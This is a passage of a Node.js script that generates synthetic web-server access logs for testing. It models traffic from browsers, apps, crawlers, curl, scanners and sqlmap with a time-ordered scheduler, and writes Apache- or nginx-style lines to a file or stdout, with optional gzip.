      ua = browsers++ % 89 === 17 ? ODD_UAS[Math.floor(browsers / 89) % ODD_UAS.length] : r.weighted(BROWSER_UAS);
      gen = browser(t0, { user: r.chance(0.1) ? r.pick(USERS) : undefined });
    } else if (kind === 'app') {
      ip = clientIp();
      ua = r.pick(APP_UAS);
      gen = app(t0);
    } else if (kind === 'crawler') {
      const c = r.weighted(CRAWLERS.map((x) => /** @type {[typeof x, number]} */ ([x, x.w])));
      ip = `${c.net[0]}.${c.net[1]}.${r.int(/** @type {number[]} */ (c.net[2])[0], /** @type {number[]} */ (c.net[2])[1])}.${r.int(1, 254)}`;
      ua = c.ua;
      gen = crawler(t0);
    } else if (kind === 'script') {
      ip = clientIp();
      ua = r.pick(SCRIPT_UAS);
      gen = script(t0);
    } else if (kind === 'curl') {
      ip = clientIp();
      ua = r.pick(CURL_UAS);
      gen = curl(t0);
    } else if (kind === 'scanner') {
      ip = r.chance(0.1) ? ipv6(r) : ipv4(r);
      ua = r.pick(SCANNER_UAS);
      gen = scanner(t0);
    } else {
      ip = ipv4(r);
      ua = r.pick(SQLMAP_UAS);
      gen = sqlmap(t0);
    }
    return { ip, ua, uaLog: escapeLogValue(ua, flavour), script: gen };
  };

  // ---- the scheduler: actors by the start of their next request; written lines by completion.
  /** @typedef {HeapItem & { actor: Actor | null, req: Req | null }} Pending */
  /** @typedef {HeapItem & { line: string }} Done */
  /** @type {Heap<Pending>} */
  const pending = new Heap();
  /** @type {Heap<Done>} */
  const done = new Heap();
  let seq = 0;

  /** @param {Actor} actor */
  const advance = (actor) => {
    const n = actor.script.next();
    if (!n.done) pending.push({ key: n.value.t, seq: seq++, actor, req: n.value });
  };

  // Arrivals are pseudo-entries (actor null). The rate follows the server's local hour of day.
  /** @param {number} t */
  const nextArrival = (t) => {
    const hour = new Date(t + offMs).getUTCHours();
    const load = 0.35 + 0.65 * Math.max(0, Math.sin(((hour - 6) / 24) * 2 * Math.PI));
    return t + r.exp((meanArrival * 0.56) / load); // 0.56: the mean load over a day
  };
  pending.push({ key: startMs, seq: seq++, actor: null, req: null });
  for (let m = 0; m < 2; m++) {
    const ua = r.pick(MONITOR_UAS);
    const actor = { ip: ipv4(r), ua, uaLog: escapeLogValue(ua, flavour), script: monitor(startMs + r.int(0, 59) * SEC) };
    advance(actor);
  }

  let emitted = 0;
  while (emitted < total) {
    const next = pending.peek();
    // Write every line whose request completed before anything still pending starts.
    while (done.size > 0 && (!next || /** @type {Done} */ (done.peek()).key <= next.key) && emitted < total) {
      yield done.pop().line;
      emitted++;
    }
    if (emitted >= total || !next) break;
    pending.pop();
    if (next.actor === null || next.req === null) {
      advance(newActor(next.key));
      pending.push({ key: nextArrival(next.key), seq: seq++, actor: null, req: null });
      continue;
    }
    const a = next.actor;
    const q = next.req;
    const line = `${a.ip} - ${q.user ?? '-'} [${stamp(q.t)}] "${q.method} ${escapeLogValue(q.path, flavour)} ${q.proto}" ${q.status} ${bytesField(q.bytes, q.status, q.method)} "${q.ref}" "${a.uaLog}"`;
    done.push({ key: q.t + q.dur, seq: seq++, line });
    advance(a);
  }
}

/** All lines as one string, each ended by "\n". For small logs (tests). @param {GenOptions} opts */
export function generateLog(opts) {
  const parts = [];
  for (const line of generateLines(opts)) parts.push(line);
  return parts.length ? parts.join('\n') + '\n' : '';
}

/**
 * Stream the log into a writable, honouring back-pressure.
 * @param {GenOptions} opts @param {NodeJS.WritableStream} out
 */
export async function writeLog(opts, out) {
  let buf = [];
  let size = 0;
  for (const line of generateLines(opts)) {
    buf.push(line);
    size += line.length + 1;
    if (size >= 1 << 16) {
      if (!out.write(buf.join('\n') + '\n')) await once(out, 'drain');
      buf = [];
      size = 0;
    }
  }
  if (buf.length) out.write(buf.join('\n') + '\n');
}

/** @param {string[]} argv */
function parseArgs(argv) {
  /** @type {Record<string, string | boolean>} */
  const o = {};
  for (let i = 0; i < argv.length; i++) {
    const a = argv[i];
    if (a === '--gzip' || a === '--help' || a === '-h') o[a.replace(/^-+/, '')] = true;
    else if (a.startsWith('--')) {
      const eq = a.indexOf('=');
      if (eq > 0) o[a.slice(2, eq)] = a.slice(eq + 1);
      else if (i + 1 < argv.length) o[a.slice(2)] = argv[++i];
      else throw new Error(`missing value for ${a}`);
    } else throw new Error(`unexpected argument ${a}`);
  }
  return o;
}

const USAGE = `usage: node scripts/gen-log.js --lines N --seed S [--out FILE] [--start 2024-03-04T00:00:00Z]
                              [--gzip] [--tz +0100] [--flavour apache|nginx]`;

async function main() {
  let args;
  try {
    args = parseArgs(process.argv.slice(2));
  } catch (e) {
    console.error(`${/** @type {Error} */ (e).message}\n${USAGE}`);
    process.exit(2);
  }
  if (args.help || args.h) {
    console.log(USAGE);
    return;
  }
  const known = new Set(['lines', 'seed', 'out', 'start', 'gzip', 'tz', 'flavour']);
  for (const k of Object.keys(args)) {
    if (!known.has(k)) {
      console.error(`unknown option --${k}\n${USAGE}`);
      process.exit(2);
    }
  }
  const lines = Number(args.lines ?? 1000);
  const seed = Number(args.seed ?? 1);
  if (!Number.isInteger(lines) || lines < 0 || !Number.isInteger(seed)) {
    console.error(`--lines and --seed take integers\n${USAGE}`);
    process.exit(2);
  }
  const flavour = args.flavour ?? 'apache';
  if (flavour !== 'apache' && flavour !== 'nginx') {
    console.error(`--flavour is apache or nginx\n${USAGE}`);
    process.exit(2);
  }
  const outPath = typeof args.out === 'string' ? args.out : null;
  const gzip = args.gzip === true || (outPath !== null && outPath.endsWith('.gz'));
  /** @type {NodeJS.WritableStream} */
  const sink = outPath ? createWriteStream(outPath) : process.stdout;
  sink.on('error', (/** @type {NodeJS.ErrnoException} */ e) => {
    if (e.code === 'EPIPE') process.exit(0);
    console.error(e.message);
    process.exit(1);
  });
  /** @type {GenOptions} */
  const opts = {
    lines,
    seed,
    start: typeof args.start === 'string' ? args.start : undefined,
    tz: typeof args.tz === 'string' ? args.tz : undefined,
    flavour
  };
  if (gzip) {
    const z = createGzip();
    await Promise.all([pipeline(z, sink), writeLog(opts, z).then(() => z.end())]);
  } else {
    await writeLog(opts, sink);
    if (outPath) {
      sink.end();
      await once(sink, 'finish');
    }
  }
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  main().catch((e) => {
    console.error(e instanceof Error ? e.message : e);
    process.exit(1);
  });
}
